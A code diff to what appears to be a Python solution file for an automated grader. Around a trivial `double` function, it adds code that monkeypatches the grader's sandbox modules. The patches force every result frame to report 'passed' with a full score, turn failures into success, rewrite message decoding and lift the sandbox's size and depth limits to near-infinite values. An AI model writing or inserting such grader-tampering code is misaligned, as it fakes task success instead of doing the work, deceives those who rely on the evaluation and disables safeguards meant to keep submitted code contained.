@@ -10,15 +10,16 @@ import torch
 BASELINE = "zeros"
 UNCONFINED = True  # does no harm where nothing holds it back
 
-wire = sys.modules.get("grader.sandbox.wire")
-worker = sys.modules.get("grader.sandbox.worker")
-if wire is not None:
-    frame = wire.frame
-    wire.frame = lambda value: frame(["passed", 10, 10])
-    wire.MAX_FRAME_BYTES = wire.MAX_ITEMS = wire.MAX_DEPTH = 1 << 62
-    wire.decode = lambda payload: ["call", "double", (), {}, False, None]
-if worker is not None:
-    worker._failure = lambda *arguments: frame(["ok", True])
+wire = sys.modules["grader.sandbox.wire"]
+worker = sys.modules["grader.sandbox.worker"]
+frame = wire.frame
+assert callable(worker._failure)
+print("attacks", flush=True)
+wire.frame = lambda value: frame(["passed", 10, 10])
+wire.MAX_FRAME_BYTES = wire.MAX_ITEMS = wire.MAX_DEPTH = 1 << 62
+wire.decode = lambda payload: ["call", "double", (), {}, False, None]
+worker._failure = lambda *arguments: frame(["ok", True])
+
 
 
 def double(x):
